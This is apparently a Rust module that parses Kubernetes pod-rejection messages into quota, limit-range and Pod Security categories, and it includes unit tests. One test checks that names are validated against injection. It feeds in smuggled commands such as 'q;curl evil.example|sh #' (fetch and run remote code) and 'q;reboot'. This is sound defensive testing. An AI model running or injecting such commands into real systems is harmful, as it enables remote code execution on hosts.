//! Classifies the messages of the API server about rejected pods.

use std::collections::BTreeMap;

/// The reason why a pod was rejected.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum PodRejection {
    /// The pod exceeds a quota, see `k8s.io/apiserver/pkg/admission/plugin/resourcequota`.
    QuotaExceeded {
        /// The name of the quota.
        quota: String,
        /// The resources that the quota has too little of.
        exceeded: Vec<ExceededResource>,
    },
    /// A quota limits a resource that the pod does not specify.
    Unspecified {
        /// The name of the quota.
        quota: String,
        /// `limits.cpu for: web`.
        what: String,
    },
    /// The pod is outside the bounds of a LimitRange, see `k8s.io/kubernetes/plugin/pkg/admission/limitranger`.
    /// Contains the message.
    OutOfLimits(String),
    /// The pod violates the Pod Security level of the namespace, see
    /// <https://kubernetes.io/docs/concepts/security/pod-security-admission/>.
    PodSecurity {
        /// `baseline` or `restricted`.
        level: String,
        /// The violations as the message describes them.
        violations: String,
    },
    /// Another reason. Contains the message.
    Other(String),
}

/// A resource of which a quota has too little left.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) struct ExceededResource {
    pub(super) resource: String,
    pub(super) requested: String,
    pub(super) used: String,
    pub(super) hard: String,
}

pub(super) fn classify(message: &str) -> PodRejection {
    let cause = without_pod_name(message);
    exceeded_quota(cause)
        .or_else(|| missing_specification(cause))
        .or_else(|| pod_security(cause))
        .or_else(|| out_of_limits(cause))
        .unwrap_or_else(|| PodRejection::Other(cause.to_owned()))
}

/// The message without the name of the pod. The pod was never created, and its name differs in each attempt.
fn without_pod_name(message: &str) -> &str {
    let rest = message.split_once(" is forbidden: ").map_or(message, |(_, rest)| rest);
    let rest = rest.strip_prefix("Error creating: ").unwrap_or(rest).trim();
    rest.strip_prefix('[').and_then(|rest| rest.strip_suffix(']')).unwrap_or(rest)
}

fn exceeded_quota(text: &str) -> Option<PodRejection> {
    let (_, rest) = text.split_once("exceeded quota: ")?;
    let (quota, rest) = rest.split_once(", requested: ").filter(|(quota, _)| is_name(quota))?;
    let (requested, rest) = rest.split_once(", used: ")?;
    let (used, hard) = rest.split_once(", limited: ")?;
    let (used, hard) = (amounts(used), amounts(hard));
    let of =
        |amounts: &BTreeMap<&str, &str>, resource: &str| amounts.get(resource).map_or("?", |amount| *amount).to_owned();
    let exceeded = amounts(requested).into_iter().map(|(resource, requested)| ExceededResource {
        resource: resource.to_owned(),
        requested: requested.to_owned(),
        used: of(&used, resource),
        hard: of(&hard, resource),
    });
    let exceeded: Vec<ExceededResource> = exceeded.collect();
    (!exceeded.is_empty()).then(|| PodRejection::QuotaExceeded { quota: quota.to_owned(), exceeded })
}

/// Returns true if the text is a valid name of an object. Users whose pods are rejected control part of an error
/// message, and the name becomes part of a command.
pub(super) fn is_name(text: &str) -> bool {
    !text.is_empty()
        && text.bytes().all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || b"-.".contains(&byte))
}

/// Parses amounts such as `pods=1,requests.cpu=500m`.
fn amounts(text: &str) -> BTreeMap<&str, &str> {
    text.split(',').filter_map(|pair| pair.trim().split_once('=')).collect()
}

fn missing_specification(text: &str) -> Option<PodRejection> {
    let (_, rest) = text.split_once("failed quota: ")?;
    let (quota, what) = rest.split_once(": must specify ").filter(|(quota, _)| is_name(quota))?;
    Some(PodRejection::Unspecified { quota: quota.to_owned(), what: what.to_owned() })
}

fn pod_security(text: &str) -> Option<PodRejection> {
    let (_, rest) = text.split_once("violates PodSecurity \"")?;
    let (level, violations) = rest.split_once('"')?;
    // The level is followed by the version of the standard: baseline:latest.
    let level = level.split(':').next().unwrap_or(level);
    Some(PodRejection::PodSecurity {
        level: level.to_owned(),
        violations: violations.trim_start_matches([':', ' ']).to_owned(),
    })
}

fn out_of_limits(text: &str) -> Option<PodRejection> {
    let words = ["minimum ", "maximum ", " max limit to request ratio per "];
    let is_about_limits =
        (text.contains(" usage per ") || text.contains(" ratio per ")) && words.iter().any(|word| text.contains(word));
    is_about_limits.then(|| PodRejection::OutOfLimits(text.to_owned()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn exceeded(resource: &str, requested: &str, used: &str, hard: &str) -> ExceededResource {
        let [resource, requested, used, hard] = [resource, requested, used, hard].map(ToOwned::to_owned);
        ExceededResource { resource, requested, used, hard }
    }

    #[test]
    fn a_name_in_a_message_of_a_tenant_is_validated() {
        let capability = "exceeded quota: q;curl evil.example|sh #, requested: a=1, used: a=1, limited: a=1";
        let violations = format!("unrestricted capabilities (container \"web\" must not include \"{capability}\")");
        let message = format!("pods \"web-1\" is forbidden: violates PodSecurity \"baseline:latest\": {violations}");
        assert_eq!(classify(&message), PodRejection::PodSecurity { level: "baseline".to_owned(), violations });
        let failed = "pods \"web-1\" is forbidden: failed quota: q;reboot: must specify pods for: web";
        assert!(matches!(classify(failed), PodRejection::Other(_)));
    }

    #[test]
    fn messages_of_the_api_server_are_classified() {
        let limits = |text: &str| PodRejection::OutOfLimits(text.to_owned());
        let rejected = |exceeded: Vec<ExceededResource>| PodRejection::QuotaExceeded {
            quota: "developerspace".to_owned(),
            exceeded,
        };
        for (message, refusal) in [
            (
                "Error creating: pods \"web-5d9c-x2x4z\" is forbidden: exceeded quota: developerspace, requested: requests.cpu=5, used: requests.cpu=8, limited: requests.cpu=10",
                rejected(vec![exceeded("requests.cpu", "5", "8", "10")]),
            ),
            (
                "create Pod db-0 in StatefulSet db failed error: pods \"db-0\" is forbidden: exceeded quota: developerspace, requested: pods=1,requests.memory=1Gi, used: pods=40,requests.memory=9Gi, limited: pods=40,requests.memory=9Gi",
                rejected(vec![exceeded("pods", "1", "40", "40"), exceeded("requests.memory", "1Gi", "9Gi", "9Gi")]),
            ),
            (
                "pods \"web-1\" is forbidden: failed quota: zoology-cap: must specify limits.cpu for: web; limits.memory for: web",
                PodRejection::Unspecified {
                    quota: "zoology-cap".to_owned(),
                    what: "limits.cpu for: web; limits.memory for: web".to_owned(),
                },
            ),
            (
                "pods \"web-1\" is forbidden: [maximum cpu usage per Container is 1, but limit is 2, maximum cpu usage per Pod is 1, but limit is 2]",
                limits(
                    "maximum cpu usage per Container is 1, but limit is 2, maximum cpu usage per Pod is 1, but limit is 2",
                ),
            ),
            (
                "pods \"web-1\" is forbidden: minimum memory usage per Container is 64Mi, but request is 8Mi",
                limits("minimum memory usage per Container is 64Mi, but request is 8Mi"),
            ),
            (
                "pods \"web-1\" is forbidden: cpu max limit to request ratio per Container is 2, but provided ratio is 4.000000",
                limits("cpu max limit to request ratio per Container is 2, but provided ratio is 4.000000"),
            ),
            (
                "Error creating: pods \"web-1\" is forbidden: violates PodSecurity \"baseline:latest\": host namespaces (hostNetwork=true)",
                PodRejection::PodSecurity {
                    level: "baseline".to_owned(),
                    violations: "host namespaces (hostNetwork=true)".to_owned(),
                },
            ),
            (
                "Error creating: admission webhook \"images.example.com\" denied the request: no such registry",
                PodRejection::Other(
                    "admission webhook \"images.example.com\" denied the request: no such registry".to_owned(),
                ),
            ),
            (
                "exceeded quota: cut off, requested: pods=1",
                PodRejection::Other("exceeded quota: cut off, requested: pods=1".to_owned()),
            ),
            ("", PodRejection::Other(String::new())),
        ] {
            assert_eq!(classify(message), refusal, "{message}");
        }
    }
}
